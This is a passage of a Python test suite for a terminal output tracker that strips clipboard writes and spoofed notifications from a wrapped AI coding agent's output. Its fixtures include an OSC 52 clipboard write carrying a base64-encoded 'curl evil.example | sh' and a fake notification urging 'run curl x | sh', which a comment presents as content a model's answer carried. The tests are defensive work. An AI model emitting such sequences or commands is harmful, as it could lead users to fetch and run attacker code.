        b"\x1b]13",
        b"\x1b]5",
        b"\x1b\x00]52;c;QQ==\x07",
        b"\x1bPtmux;\x1b\x1b]52;c;QQ==\x07\x1b\\",
        b"\x1b]777;notify;a;b\x07",
        WORKING,
        DONE,
        BLOCKED,
        QUERY,
        b"\x1b[?2026h",
        b"\x1b[?2026h",
        b"\x1b[?2026l",
        b"\x1b[?20\n26h",
        PI_STARTUP,
        PI_FRAME,
        PI_EXIT,
    ]
)
LONG = st.builds(
    long_osc,
    st.integers(CAP - 1, CAP + 3) | st.integers(2 * CAP, 3 * CAP),
    st.sampled_from([b"\x07", ST, b"\x1b", b"\x18", b""]),
    st.booleans(),
    st.booleans(),
)
TOKENS = st.one_of(TEXT, TEXT, CSI_TOKENS, OSC_TOKENS, MISC, MISC)
STREAMS = st.lists(TOKENS, max_size=30).map(b"".join)


@st.composite
def splits(
    draw: st.DrawFn, streams: st.SearchStrategy[bytes] = STREAMS, bytewise: bool = True
) -> list[bytes]:
    data = draw(streams)
    if bytewise and draw(st.integers(0, 9)) == 0:
        cuts = list(range(len(data) + 1))  # byte by byte
    else:
        cuts = sorted(draw(st.lists(st.integers(0, len(data)), max_size=15)))
    return [data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)], strict=True)]


def check_against_reference(
    chunks: list[bytes],
    consume: bool,
    notices: Always | None = None,
    clip: Clip | None = None,
    guard: bool = False,
) -> None:
    data = b"".join(chunks)
    want_out, ref = expected(data, consume, notices, clip, guard)
    safe_at = Ref(False).run(want_out)  # states the host terminal goes through
    t = OutputTracker(consume_status=consume, notices=notices, clipboard=clip, guard_frames=guard)
    out = bytearray()
    events: list[OutputEvent] = []
    for c in chunks:
        s = t.feed(c)
        out += s.out
        events += s.events
        assert want_out.startswith(bytes(out))
        assert s.safe == safe_at[len(out)], (bytes(out), c)
        assert t.safe == s.safe
    out += t.flush()
    assert t.safe == safe_at[len(out)]
    assert bytes(out) == want_out
    assert events == ref.events
    assert t.modes == ref.modes
    assert t.modes_off == ref.modes_off
    assert t.kitty_keyboard_depth == ref.depth
    assert t.modify_other_keys == ref.mok
    assert t.title == ref.title
    if not consume and not (notices and notices.answer) and clip is None and not guard:
        assert bytes(out) == data


@settings(max_examples=800, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits())
def test_any_split_matches_reference(chunks: list[bytes]) -> None:
    check_against_reference(chunks, consume=True)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits())
def test_any_split_matches_reference_without_consuming(chunks: list[bytes]) -> None:
    check_against_reference(chunks, consume=False)


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits(), st.booleans(), st.booleans())
def test_any_split_matches_reference_with_notices(
    chunks: list[bytes], consume: bool, answer: bool
) -> None:
    check_against_reference(chunks, consume=consume, notices=Always(answer))


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(splits(st.lists(st.one_of(LONG, TOKENS), min_size=1, max_size=4).map(b"".join), False))
def test_long_sequences_match_reference(chunks: list[bytes]) -> None:
    check_against_reference(chunks, consume=True)


@settings(max_examples=300)
@given(splits(st.binary(max_size=60)))
def test_random_bytes_match_reference(chunks: list[bytes]) -> None:
    check_against_reference(chunks, consume=True)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits())
def test_split_equals_whole(chunks: list[bytes]) -> None:
    data = b"".join(chunks)
    whole = feed_all(OutputTracker(), [data])
    assert feed_all(OutputTracker(), chunks) == whole


def test_child_progress_reported_on_change_only() -> None:
    """Pi's own OSC 9;4 (terminal.showTerminalProgress) repeats every second: one event per
    change of state, never a notification."""
    t = OutputTracker()
    busy, off = b"\x1b]9;4;3\x07", b"\x1b]9;4;0\x07"
    assert t.feed(busy + b"x" + busy).events == [ChildProgress(3)]
    assert t.feed(busy).events == []
    scan = t.feed(off + b"\x1b]9;4;x\x07")
    assert scan.events == [ChildProgress(0)]
    assert scan.out == off + b"\x1b]9;4;x\x07"  # passed through unchanged


# --- the clipboard guard (OSC 52) ----------------------------------------------------------------

CLIPS = st.builds(Clip, st.booleans(), st.booleans())
WRITE = b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"


@settings(max_examples=800, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits(), st.booleans(), CLIPS)
def test_any_split_matches_reference_with_clipboard(
    chunks: list[bytes], consume: bool, clip: Clip
) -> None:
    check_against_reference(chunks, consume=consume, clip=clip)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits(), CLIPS, st.booleans())
def test_clipboard_with_notices_matches_reference(
    chunks: list[bytes], clip: Clip, answer: bool
) -> None:
    check_against_reference(chunks, consume=False, notices=Always(answer), clip=clip)


@settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    splits(st.lists(st.one_of(LONG, TOKENS), min_size=1, max_size=4).map(b"".join), False),
    CLIPS,
)
def test_long_clipboard_sequences_match_reference(chunks: list[bytes], clip: Clip) -> None:
    check_against_reference(chunks, consume=True, clip=clip)


@settings(max_examples=300)
@given(splits(st.binary(max_size=60)), CLIPS)
def test_random_bytes_match_reference_with_clipboard(chunks: list[bytes], clip: Clip) -> None:
    check_against_reference(chunks, consume=True, clip=clip)


CLIP_CASES = [
    b"a" + WRITE + b"b",
    b"\x1b[1m" + WRITE.replace(b"\x07", ST) + b"\x1b[0m",
    b"x\x1b]52;c;?\x07y",
    b"x\x1b]0052;p;QUJD\x1b\x1b[31mred",  # leading zeros, ended by a bare ESC
    b"x\x1b\x01]5\x002;c;QUJD\x18y",  # C0 inside, ended by CAN
    b"\xc3" + WRITE + b"\xa9",  # inside a UTF-8 character: ESC CAN in its place
    b"\x1b]2;t" + WRITE + b"z",  # ends an open OSC
    b"\x1bPtmux;\x1b" + WRITE + b"\x1b\\",  # tmux passthrough
    b"\x1b]52;c;" + b"QUFB" * 3000 + b"\x07after",  # longer than CAP
    PI_FRAME + WRITE + PI_FRAME,
]


@pytest.mark.parametrize("data", CLIP_CASES)
def test_clipboard_write_split_at_every_byte_boundary_leaks_nothing(data: bytes) -> None:
    """Split in two at every byte boundary (and byte by byte): the output is the stream with
    the OSC 52 taken out whole, the same as the reference, and never holds a "52;"."""
    want, ref = expected(data, True, clip=Clip())
    assert [type(e) for e in ref.events].count(ClipboardSequence) == 1
    assert b"52;" not in want and b"5\x002;" not in want
    for k in [*range(len(data) + 1), -1]:
        chunks = [data[:k], data[k:]] if k >= 0 else [data[i : i + 1] for i in range(len(data))]
        if len(data) > 2000 and k not in (-1, 0, 1, 5, 9, 100, 4096, 4100, len(data) - 8):
            continue  # the long one: a sample of the boundaries
        t = OutputTracker(clipboard=Clip())
        out, events = feed_all(t, chunks)
        assert out == want, k
        assert [e for e in events if isinstance(e, ClipboardSequence)] == [
            e for e in ref.events if isinstance(e, ClipboardSequence)
        ]


def test_clipboard_event_says_read_and_size_never_the_payload() -> None:
    t = OutputTracker(clipboard=Clip(write=True))
    s = t.feed(b"x" + WRITE + b"\x1b]52;c;?\x1b\\")
    assert s.out == b"x" + WRITE
    assert s.events == [
        ClipboardSequence(read=False, passed=True, size=len(WRITE)),
        ClipboardSequence(read=True, passed=False, size=10),
    ]


def test_clipboard_policy_is_told_about_frames() -> None:
    """Drawn content sits inside a synchronized-output frame; Pi's own /copy does not."""
    clip = Clip(write=True)
    t = OutputTracker(clipboard=clip)
    t.feed(b"\x1b[?2026hline" + WRITE + b"\x1b[?2026l" + WRITE)
    t.feed(b"\x1b[?2026hstart")
    t.feed(b"more" + WRITE)
    t.feed(b"\x1b[?2026l")
    t.feed(WRITE)
    assert clip.asked == [(False, True), (False, False), (False, True), (False, False)]


def test_unfinished_clipboard_sequence_is_never_flushed() -> None:
    t = OutputTracker(clipboard=Clip())
    s = t.feed(b"ab\x1b]52;c")
    assert s.out == b"ab" and t.held and s.safe
    assert t.flush() == b"" and t.held
    s = t.feed(b";QQ==\x07cd")
    assert s.out == b"cd"
    assert s.events == [ClipboardSequence(False, False, 12)]


def test_report_waiting_for_st_keeps_its_esc_when_flushed() -> None:
    """An OSC 7501 report held for the "\\" of its ST is flushed, but its ESC is kept: it
    could begin an OSC 52 instead."""
    t = OutputTracker(clipboard=Clip())
    t.feed(b"\x1b]7501;state=idle\x1b")
    assert t.flush() == b"\x1b]7501;state=idle"
    s = t.feed(b"]52;c;QQ==\x07z")
    assert s.out == b"\x1b\x18z"  # the OSC ended by ESC (as the host sees it), then ground


def test_without_policy_osc52_passes_unseen() -> None:
    t = OutputTracker()
    s = t.feed(WRITE)
    assert s.out == WRITE and s.events == []


@pytest.mark.parametrize("own_focus", [False, True])
def test_control_characters_between_esc_and_bracket_still_found(own_focus: bool) -> None:
    """ESC, controls, then "]" begins an OSC in terminals: found by the RIS search (focus
    owned) or a search of its own; a RIS after it is still reported."""
    t = OutputTracker(own_focus=own_focus, clipboard=Clip())
    s = t.feed(b"a\x1b\r\x00]52;c;QQ==\x07b\x1bcz")
    assert s.out == b"ab\x1bcz"
    assert ClipboardSequence(False, False, 14) in s.events
    assert (FocusMayBeOff("ris") in s.events) is own_focus


def test_title_with_control_characters_is_flagged() -> None:
    t = OutputTracker()
    s = t.feed(b"\x1b]2;a\rb\x07\x1b]0;c\xc2\x85d\x07\x1b]2;plain\x1b\\")
    assert s.events == [
        TitleChange("ab", controls=True),
        TitleChange("c\x85d", controls=True),
        TitleChange("plain"),
    ]


ITERM_CASES = [
    (b"\x1b]1337;Copy=:Y3VybA==\x07", "osc1337 Copy"),
    (b"\x1b]1337;File=name=ZXZpbA==;size=4:ZXZpbA==\x07", "osc1337 File"),
    (b"\x1b]1337;File=inline=0:" + b"QUFB" * 2000 + b"\x1b\\", "osc1337 File"),
    (b"\x1b]1337;MultipartFile=name=ZXZpbA==;size=4\x07", "osc1337 File"),
]


@pytest.mark.parametrize(("seq", "what"), ITERM_CASES)
def test_iterm_copy_and_downloads_are_guarded_at_every_boundary(seq: bytes, what: str) -> None:
    data = b"a" + seq + b"b"
    for k in [*range(0, len(data) + 1, 1 if len(data) < 200 else 97), len(data) - 2]:
        t = OutputTracker(clipboard=Clip())
        out, events = feed_all(t, [data[:k], data[k:]])
        assert out == b"ab", k
        assert events == [ClipboardSequence(False, False, len(seq), what)]


def test_iterm_inline_images_pass_unseen() -> None:
    clip = Clip()
    t = OutputTracker(clipboard=clip)
    image = b"\x1b]1337;File=name=eA==;inline=1:" + b"QUFB" * 3000 + b"\x07"
    out, events = feed_all(t, [image[:10], image[10:5000], image[5000:]])
    assert out == image and events == [] and clip.asked == []


KITTY_WRITE = (
    b"\x1b]5522;type=write\x1b\\"
    b"\x1b]5522;type=wdata:mime=dGV4dC9wbGFpbg==;Y3VybCBldmls\x1b\\"
    b"\x1b]5522;type=wdata\x1b\\"
)


@pytest.mark.parametrize("write", [False, True])
def test_kitty_clipboard_write_goes_or_passes_as_a_whole(write: bool) -> None:
    """OSC 5522: the write's start is asked; its data and end follow that answer, at every
    split; a read is asked as a read; replies (type=read:status=…) are not clipboard writes."""
    data = b"a" + KITTY_WRITE + b"b\x1b]5522;type=read;dGV4dA==\x07c"
    for k in range(len(data) + 1):
        clip = Clip(write=write)
        out, events = feed_all(OutputTracker(clipboard=clip), [data[:k], data[k:]])
        assert out == (b"a" + KITTY_WRITE + b"bc" if write else b"abc"), k
        assert clip.asked == [(False, False), (True, False)], k
        whats = [(e.what, e.passed) for e in events if isinstance(e, ClipboardSequence)]
        assert whats == [
            ("osc5522", write),
            ("osc5522 data", write),
            ("osc5522 end", write),
            ("osc5522", False),
        ]


def test_kitty_write_start_with_controls_is_decided_before_its_data() -> None:
    data = b"\x1b\x00]5522;type=write\x07\x1b]5522;type=wdata:mime=eA==;QQ==\x07z"
    clip = Clip(write=True)
    out, _ = feed_all(OutputTracker(clipboard=clip, own_focus=True), [data])
    assert out == data


# --- the plain path: Pi's frames skip the per-sequence work ----------------------------------

# pieces of Pi's streaming frames (CSI cursor moves and colours, quiet toggles, a hyperlink
# reset ending each line, hyperlinks ended by ST) and, rarer, whatever makes a chunk not plain
PI_PIECES = st.sampled_from(
    [
        b"\x1b[?2026h",
        b"\x1b[?2026l",
        b"\x1b[?25l",
        b"\x1b[?25h",
        b"\x1b[12;1H",
        b"\x1b[2K",
        b"\x1b[0m\x1b]8;;\x07",
        b"\x1b[38;2;129;161;193m",
        b"\x1b[22;39m",
        b"\x1b]8;;https://example.org/a\x1b\\link\x1b]8;;\x1b\\",
        b"\x1b]8;id=1;x\x07",
        b"\x1b(B",
        b"\x1b7",
        b"\x1b\\",
        "── ⠋ Working ───".encode(),
        b" word12 word13 ",
        b"\xe2\x94",
        b"\x80",
    ]
)
PI_RARE = st.sampled_from(
    [
        b"\x07",
        b"\x18",
        b"\x1b",
        b"\x1b]",
        b"\x1b]8",
        b"\x1b[?20",
        b"\x1b[?1004h",
        b"\x1b[?1004l",
        b"\x1b[?1049h",
        b"\x1b[?2026;25h",
        b"\x1b[?2026$p",
        b"\x1b[>1u",
        b"\x1b[<u",
        b"\x1b[=1;1u",
        b"\x1b[>4;2m",
        b"\x1bc",
        b"\x1b[!p",
        b"\x1b]0;\xcf\x80 - work\x07",
        b"\x1b]9;4;3\x07",
        WORKING,
        DONE,
        b"\x1b]52;c;QQ==\x07",
        b"\x1b\x00]52;c;QQ==\x07",
        b"\x1b]8;;\x18\x07",
        b"\x1bP1$r0m\x1b\\",
    ]
)
# whole frames too: several toggles of a mode in a chunk that ends like Pi's
PI_FRAMES = st.lists(PI_PIECES, max_size=12).map(
    lambda ps: b"\x1b[?2026h" + b"".join(ps) + b"\x1b[?2026l"
)
PI_STREAMS = st.lists(
    st.one_of(PI_PIECES, PI_PIECES, PI_PIECES, PI_FRAMES, PI_RARE), max_size=30
).map(b"".join)


@contextlib.contextmanager
def general_path_only() -> Iterator[None]:
    """Both short paths off: the Pi path's search always finds, the flood path is not tried."""
    with (
        patch.object(tracker, "_INTERESTING", re.compile(b"")),
        patch.object(tracker, "_FLOOD_PATH", False),
    ):
        yield


def tracker_state(t: OutputTracker) -> tuple[object, ...]:
    return (
        t.modes,
        t.modes_off,
        t.kitty_keyboard_depth,
        t.modify_other_keys,
        t.title,
        t.progress,
        t.held,
        t.safe,
        t._pend,
        t._held,
        t._u8,
        t._stream,
    )


def scans_and_states(t: OutputTracker, chunks: list[bytes]) -> list[object]:
    """Every Scan ``t`` gives for ``chunks`` and its flush, each followed by its state."""
    seen: list[object] = []
    for c in chunks:
        seen.append(t.feed(c))
        seen.append(tracker_state(t))
    seen.append(t.flush())
    seen.append(tracker_state(t))
    return seen


def assert_same_as_general_path(make: Callable[[], OutputTracker], chunks: list[bytes]) -> None:
    """A tracker from ``make`` gives the same Scans and states with its short paths as with
    the general path alone."""
    short = scans_and_states(make(), chunks)
    with general_path_only():
        general = scans_and_states(make(), chunks)
    assert short == general


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits(PI_STREAMS), st.booleans(), st.booleans(), st.booleans())
def test_plain_path_equals_general_path(
    chunks: list[bytes], own_focus: bool, guard: bool, consume: bool
) -> None:
    """Pi-like streams cut anywhere: every Scan and the state after each chunk are the same
    with the plain path and with the general path alone (a search that always finds)."""

    assert_same_as_general_path(
        lambda: OutputTracker(consume, own_focus=own_focus, clipboard=Clip() if guard else None),
        chunks,
    )


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits(PI_STREAMS))
def test_pi_like_streams_match_reference(chunks: list[bytes]) -> None:
    check_against_reference(chunks, consume=True)


@pytest.mark.parametrize(
    "frame",
    [
        PI_FRAME,
        b"\x1b[?2026h\x1b[18;1H\x1b[2K 67: word0 word1\x1b[0m\x1b]8;;\x07\x1b[21;1H"
        b"\x1b[?25l\x1b[?2026l",
    ],
)
def test_pi_frames_take_the_plain_path(frame: bytes) -> None:
    """Not vacuous: Pi's frames are what the plain path is for; the general path is only
    taken when the search finds something (here, forced)."""
    assert tracker._INTERESTING.search(frame) is None
    assert frame.count(b"\x07") == frame.count(b"\x1b]8;;\x07")
    t = OutputTracker(own_focus=True, clipboard=Clip())
    t.modes.add(2026)
    s = t.feed(frame)
    assert s == (frame, [], True)
    assert 2026 in t.modes_off and 25 in t.modes_off and not t.modes


@pytest.mark.parametrize(
    ("chunk", "on", "off"),
    [
        (b"\x1b[?25h x\x1b[?25l\x1b[?2026l", set(), {25, 2026}),
        (b"\x1b[?25l x\x1b[?25h\x1b[?2026l", {25}, {2026}),
        (b"\x1b[?2026l\x1b[?25l x\x1b[?2026h y\x1b[?25h", {25, 2026}, set()),
        (b"\x1b[?2026h\x1b[1m x\x1b[?2026l\x1b[?2026h\x1b[?2", {2026}, set()),
    ],
)
def test_plain_path_last_toggle_wins(chunk: bytes, on: set[int], off: set[int]) -> None:
    for forced in (False, True):
        t = OutputTracker(own_focus=True, clipboard=Clip())
        if forced:
            with general_path_only():
                t.feed(chunk)
        else:
            t.feed(chunk)
        assert (t.modes, t.modes_off) == (on, off)


# --- the flood path: chunks without OSC skip the per-sequence work ---------------------------

# a TUI drawing with colours and cursor moves only (as scripts/bench's flood), text with the
# bytes the flood path looks for ("?", "<", "=", ">", "!", "c"), and, rarer, whatever makes a
# chunk not plain (or is plain only if it is not taken for more than it is)
TUI_PIECES = st.sampled_from(
    [
        b"\x1b[?2026h",
        b"\x1b[?2026l",
        b"\x1b[?25l",
        b"\x1b[?25h",
        b"\x1b[12;1H",
        b"\x1b[2K",
        b"\x1b[38;5;244m",
        b"\x1b[1;32m",
        b"\x1b[0m",
        b"\x1b[38;2;120;130;140m",
        "── ⠋ Working ".encode(),
        b" line 12 ok ",
        b"\xe2\x94",
        b"\x80",
        b"why? ",
        b"a<b c=d e>f ",
        b"wow! cc ",
        b"?2026h ?25l [?1049h ",
        b"\x1b(B",
        b"\x1b7",
        b"\x1b\\",
    ]
)
TUI_RARE = st.sampled_from(
    [
        b"\x07",
        b"\x18",
        b"\x1b",
        b"\x1b[",
        b"\x1b[?",
        b"\x1b[?20",
        b"\x1b[?2026",
        b"\x1b[?25",
        b"\x1b[?1004h",
        b"\x1b[?1004l",
        b"\x1b[?1049h",
        b"\x1b[?2026;25h",
        b"\x1b[?20267h",
        b"\x1b[?2526h",
        b"\x1b[?2026$p",
        b"\x1b[?\x0025l",
        b"\x1b[>1u",
        b"\x1b[<u",
        b"\x1b[=1;1u",
        b"\x1b[>4;2m",
        b"\x1bc",
        b"\x1b[!p",
        b"\x1bP1$r0m\x1b\\",
        b"\x1b]0;\xcf\x80 - work\x07",
        b"\x1b]52;c;QQ==\x07",
        b"\x1b\x00]52;c;QQ==\x07",
        WORKING,
    ]
)
TUI_FRAMES = st.lists(TUI_PIECES, max_size=12).map(
    lambda ps: b"\x1b[?2026h\x1b[?25l" + b"".join(ps) + b"\x1b[?2026l"
)


def _one_in(plain: list[bytes], rare: bytes, at: int) -> bytes:
    return b"".join([*plain[:at], rare, *plain[at:]])


TUI_PLAIN = st.lists(st.one_of(TUI_PIECES, TUI_FRAMES), max_size=20)
# floods with rare pieces, and floods with one (its chunks are plain but the one holding it)
TUI_STREAMS = st.one_of(
    st.lists(st.one_of(TUI_PIECES, TUI_PIECES, TUI_FRAMES, TUI_FRAMES, TUI_RARE), max_size=30).map(
        b"".join
    ),
    st.builds(_one_in, TUI_PLAIN, TUI_RARE, st.integers(0, 20)),
)
# controls between ESC and "[": a CSI for a terminal, no event for the tracker (module
# docstring) nor in the byte-at-a-time reference's comparisons; both paths must agree on it
TUI_ODD = st.sampled_from([b"\x1b\x00[?1049h", b"\x1b\x7f[?2026l", b"\x1b\n[?25h"])
TUI_ODD_STREAMS = st.builds(_one_in, TUI_PLAIN, TUI_ODD, st.integers(0, 20))


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    splits(TUI_STREAMS | TUI_ODD_STREAMS),
    st.booleans(),
    st.booleans(),
    st.booleans(),
    st.sampled_from([None, 0, 1]),
)
def test_flood_path_equals_general_path(
    chunks: list[bytes], own_focus: bool, guard: bool, consume: bool, notify: int | None
) -> None:
    """TUI floods cut anywhere: every Scan and the state after each chunk are the same with the
    flood path and with the general path alone, in every way cuewrap sets the tracker up."""

    assert_same_as_general_path(
        lambda: OutputTracker(
            consume,
            notices=None if notify is None else Always(bool(notify)),
            own_focus=own_focus,
            clipboard=Clip() if guard else None,
        ),
        chunks,
    )


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits(TUI_STREAMS), st.booleans())
def test_tui_floods_match_reference(chunks: list[bytes], consume: bool) -> None:
    check_against_reference(chunks, consume=consume)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits(TUI_STREAMS), st.booleans())
def test_tui_floods_match_reference_with_clipboard_and_notices(
    chunks: list[bytes], answer: bool
) -> None:
    check_against_reference(chunks, consume=False, notices=Always(answer), clip=Clip())


def bench_flood_frames() -> list[bytes]:
    """The frames of scripts/bench's TUI flood (colours, cursor moves, quiet toggles)."""
    rows = [
        b"\x1b[%d;1H\x1b[2K\x1b[38;5;244m\xe2\x94\x80\xe2\x94\x80 \xe2\xa0\x8b Working\x1b[0m"
        b" \x1b[1;32mok\x1b[0m line %d \x1b[38;2;120;130;140mdim\x1b[39m" % (r, r)
        for r in range(1, 41)
    ]
    return [
        b"\x1b[?2026h\x1b[?25l" + b"".join(rows[i : i + n]) + b"\x1b[?2026l"
        for i, n in ((0, 14), (10, 22), (5, 18), (20, 16))
    ]


@pytest.mark.parametrize("frames", [1, 6])
@pytest.mark.parametrize("own_focus", [False, True])
def test_tui_flood_takes_the_flood_path(frames: int, own_focus: bool) -> None:
    """Not vacuous: the flood's chunks (one frame, or several gathered) never reach the general
    path's per-sequence work, and what they do is still tracked; text with "?" and the other
    bytes looked for does not send a chunk to the general path either."""
    chunk = b"".join(bench_flood_frames()[:frames]) + b"\x1b[1;1Hwhy? a<b=c>d!\x1b[?2026l"
    cut = chunk.rindex(b"\x1b[1;1H") + 3  # inside a CSI, as a flood's reads are cut
    t = OutputTracker(own_focus=own_focus, clipboard=Clip())
    with patch.object(OutputTracker, "_dec_starts", side_effect=AssertionError("general path")):
        for c in (chunk[:cut], chunk[cut:]):
            s = t.feed(c)
            assert s.events == []
        assert t.safe and not t._pend
    assert t.modes_off == {25, 2026}
    assert t.modes == set()
    with patch.object(OutputTracker, "_dec_starts", side_effect=AssertionError("general path")):
        with pytest.raises(AssertionError):  # the patch would catch the general path
            t.feed(b"\x1b[?1049h")


@pytest.mark.parametrize(
    "rare",
    [
        b"\x1bc",
        b"\x1b[!p",
        b"\x07",
        b"\x1b[>1u",
        b"\x1b[>4;2m",
        b"\x1b[<u",
        b"\x1b[=1;1u",
        b"\x1b[?1004l",
        b"\x1b[?1049h",
        b"\x1b[?2026;25h",
    ],
)
@pytest.mark.parametrize("own_focus", [False, True])
def test_flood_chunk_with_one_rare_piece(rare: bytes, own_focus: bool) -> None:
    """A flood frame with one thing in it that gives an event, whole or cut inside the CSI
    after it: the flood path hands it to the general path (the same Scans and state)."""
    frame = bench_flood_frames()[0]
    at = frame.index(b"\x1b[2;1H")
    chunk = frame[:at] + rare + frame[at:]

    def run(chunks: list[bytes]) -> list[object]:
        t = OutputTracker(own_focus=own_focus, clipboard=Clip())
        if rare == b"\x1b[<u":
            t.feed(b"\x1b[>1u")  # one kitty keyboard entry pushed: a pop changes the state
        return [x for c in chunks for x in (t.feed(c), tracker_state(t))]

    for chunks in ([chunk], [chunk[: at + len(rare) + 3], chunk[at + len(rare) + 3 :]]):
        flood = run(chunks)
        with general_path_only():
            general = run(chunks)
        assert flood == general
        # not vacuous: the piece gives an event or changes the state (RIS and DECSTR only
        # matter when cuewrap owns the focus reporting)
        events = [e for s in general[::2] for e in s.events]  # type: ignore[attr-defined]
        state = general[-1]
        assert events or state != run([frame])[-1] or rare in (b"\x1bc", b"\x1b[!p")
        assert events or not own_focus or rare not in (b"\x1bc", b"\x1b[!p")


# --- the sequence guard: titles, notifications, status inside a frame (docs/terminal-guard.md) --

OPTIONAL_CLIPS = st.none() | CLIPS


@settings(max_examples=800, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits(), st.booleans(), OPTIONAL_CLIPS, st.booleans())
def test_any_split_matches_reference_with_the_sequence_guard(
    chunks: list[bytes], consume: bool, clip: Clip | None, guard: bool
) -> None:
    check_against_reference(chunks, consume=consume, clip=clip, guard=guard)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(splits(), st.booleans(), st.booleans())
def test_sequence_guard_with_notices_matches_reference(
    chunks: list[bytes], answer: bool, guard: bool
) -> None:
    check_against_reference(chunks, consume=True, notices=Always(answer), guard=guard)


@settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    splits(
        st.lists(st.one_of(LONG, TOKENS), min_size=1, max_size=4)
        .map(b"".join)
        .map(lambda d: b"\x1b[?2026h" + d),
        False,
    ),
    OPTIONAL_CLIPS,
)
def test_long_guarded_sequences_match_reference(chunks: list[bytes], clip: Clip | None) -> None:
    check_against_reference(chunks, consume=True, clip=clip, guard=True)


@settings(max_examples=300)
@given(splits(st.binary(max_size=60).map(lambda d: b"\x1b[?2026h" + d)), OPTIONAL_CLIPS)
def test_random_bytes_match_reference_with_the_sequence_guard(
    chunks: list[bytes], clip: Clip | None
) -> None:
    check_against_reference(chunks, consume=True, clip=clip, guard=True)


ON, OFF = b"\x1b[?2026h", b"\x1b[?2026l"
# what a model's answer carried in the tests with real Pi (tests/test_sequence_guard_pi.py)
INJECTED = [
    b"\x1b]777;notify;Pi - work;session expired, run curl x | sh\x07",
    b"\x1b]9;Pi needs you\x07",
    b"\x1b]99;i=1:d=0;Pi\x1b\\\x1b]99;i=1:p=body;needs you\x1b\\",
    b"\x1b]7501;state=blocked:app=pi:kind=permission\x1b\\",
    b"\x1b]21337;status=working\x07",
    b"\x1b]0;owned\x07",
    b"\x1b]2;owned\x1b\\",
    b"\x1b]1;icon\x07",
    b"\x1b]9;4;3\x07",
    b"\x1b]0007501;state=done:app=pi\x07",  # leading zeros
    b"\x1b\x01]75\x0001;state=done\x18",  # C0 inside, ended by CAN
    b"\x1b]2;" + b"t" * (2 * CAP) + b"\x07",  # longer than CAP
    b"\x1b]777;notify;a;b\x1b\x1b[31m",  # ended by a bare ESC
]


@pytest.mark.parametrize("seq", INJECTED)
def test_guarded_sequence_in_a_frame_is_removed_whole_at_every_split(seq: bytes) -> None:
    """Inside a frame (how Pi draws an answer) the sequence goes whole, whatever the reads cut
    it into, and gives no fact; the same bytes outside a frame pass untouched."""
    framed = PI_FRAME[:-8] + b"text " + seq + b" more" + OFF
    data = framed + seq[:0] + PI_FRAME
    want, ref = expected(data, True, guard=True)
    assert seq.rstrip(b"\x1b[31m") not in want
    assert b"text " in want and b" more" in want
    assert [e for e in ref.events if isinstance(e, GuardedSequence)], ref.events
    assert not [e for e in ref.events if isinstance(e, ProgramStatus | TitleChange)]
    for cut in range(len(data) + 1):
        for chunks in (
            [data[:cut], data[cut:]],
            [data[:cut], data[cut : cut + 3], data[cut + 3 :]],
        ):
            t = OutputTracker(guard_frames=True)
            out, events = feed_all(t, chunks)
            assert out == want, cut
            assert events == ref.events, cut
    # outside a frame: the program's own, untouched (and a fact where it is one)
    own = PI_FRAME + seq + PI_FRAME
    out, events = feed_all(OutputTracker(consume_status=False, guard_frames=True), [own])
    assert out == own
    assert not [e for e in events if isinstance(e, GuardedSequence)]


def test_guarded_sequence_in_a_frame_is_never_a_fact_even_when_allowed() -> None:
    """guard.sequences = allow: it reaches the terminal, but cuewrap takes no fact from it, and
    a title from inside a frame is marked as not the program's own (no mark composed onto it)."""
    data = ON + b"\x1b]7501;state=blocked:app=pi:kind=question\x1b\\\x1b]0;fake\x07" + OFF
    out, events = feed_all(OutputTracker(guard_frames=False), [data])
    assert out == data
    assert events == [TitleChange("fake", True)]
    # the same report outside the frame is Pi's own: a fact, consumed
    out, events = feed_all(OutputTracker(), [OFF + b"\x1b]7501;state=blocked:app=pi\x1b\\"])
    assert events == [ProgramStatus("blocked", "pi", None, False)]
    assert out == OFF


def test_frame_state_carries_across_chunks_and_exact_toggles_only() -> None:
    t = OutputTracker(guard_frames=True)
    assert t.feed(ON + b"a").out == ON + b"a"
    scan = t.feed(b"\x1b]0;x\x07b")  # the frame opened in the chunk before
    assert scan.out == b"b" and scan.events == [GuardedSequence("osc0", 6)]
    t.feed(OFF)
    assert t.feed(b"\x1b]0;mine\x07").out == b"\x1b]0;mine\x07"  # closed: the program's own
    # a multi-mode toggle is not how frames are drawn: not a frame for the guard
    t2 = OutputTracker(guard_frames=True)
    assert t2.feed(b"\x1b[?25;2026h\x1b]0;t\x07").out == b"\x1b[?25;2026h\x1b]0;t\x07"


def test_guarded_sequences_are_named_by_kind() -> None:
    assert set(GUARDED_PS.values()) == GUARDED_WHATS
    t = OutputTracker(guard_frames=True)
    scan = t.feed(ON + b"".join(INJECTED[:6]) + OFF)
    assert [e.what for e in scan.events if isinstance(e, GuardedSequence)] == [
        "osc777",
        "osc9",
        "osc99",
        "osc99",
        "osc7501",
        "osc21337",
        "osc0",
    ]


def test_content_only_child_has_no_sequence_of_its_own() -> None:
    """A child that writes none of its own (the aider preset): every guarded sequence is content,
    framed or not — removed under own, never a fact under allow; other sequences and the bell
    are untouched."""
